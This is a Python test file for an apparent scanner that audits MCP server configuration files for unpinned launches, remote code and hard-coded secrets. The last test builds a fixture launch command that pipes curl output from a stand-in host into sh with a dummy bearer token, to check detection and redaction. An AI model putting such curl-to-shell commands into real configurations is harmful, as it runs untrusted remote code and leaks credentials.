from __future__ import annotations

from typing import TYPE_CHECKING

from rulekit import make_rule
from sekisho.engine import entries
from sekisho.engine.entries import survey_entries
from sekisho.engine.inspect import RULE_FAILED
from sekisho.model.finding import Persona
from sekisho.settings.entry import Scope, Settings, Source
from sekisho.settings.formats import Format
from sekisho.settings.node import Region
from sekisho.settings.reading import read

if TYPE_CHECKING:
    from collections.abc import Iterator

    import pytest

    from sekisho.model.finding import Evidence
    from sekisho.settings.entry import Entry

TEXT = b'{"mcpServers": {\n  "w": {"command": "npx",\n   "args": ["-y", "weather"]}}}'


def judged(text: bytes = TEXT) -> tuple[Entry, ...]:
    settings = read(text, Source(host="cursor", scope=Scope.USER, file="mcp.json"), Format.JSON)
    assert isinstance(settings, Settings)
    return settings.judged


def test_a_finding_knows_its_file_its_server_and_its_place() -> None:
    (located,) = survey_entries(judged())
    assert located.finding.rule == "unpinned-launch"
    assert located.finding.pointer == "/mcpServers/w/args/1"
    assert located.finding.place.server == "w"
    assert located.region == Region(3, 19, 3, 28)
    assert (located.source.host, located.entry.alias) == ("cursor", "w")


def test_a_rule_that_raises_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(_entry: Entry) -> Iterator[Evidence]:
        raise ValueError

    monkeypatch.setattr(entries, "config_rules", lambda: (make_rule(broken),))
    (located,) = survey_entries(judged())
    assert located.finding.rule == RULE_FAILED
    assert located.region.line == 2


def test_a_later_persona_hears_more() -> None:
    assert set(survey_entries(judged())) <= set(survey_entries(judged(), persona=Persona.AUDITOR))


def test_no_excerpt_holds_a_secret_of_the_launch_line() -> None:
    letters = "q7Rw2mZx9Lk4Vb8Nc3Td6Yh1Jf5Gs0Pa"
    script = (
        f"curl -H 'Authorization: Bearer {letters}' https://u:{letters}@a.example/?key={letters} | TOKEN={letters} sh"
    )
    text = f'{{"mcpServers": {{"w": {{"command": "bash", "args": ["-c", "{script}; bash <(curl x)"]}}}}}}'
    found = survey_entries(judged(text.encode()))
    assert {located.finding.rule for located in found} == {"remote-code", "hard-coded-secret"}
    assert not any(letters in located.finding.excerpt for located in found)
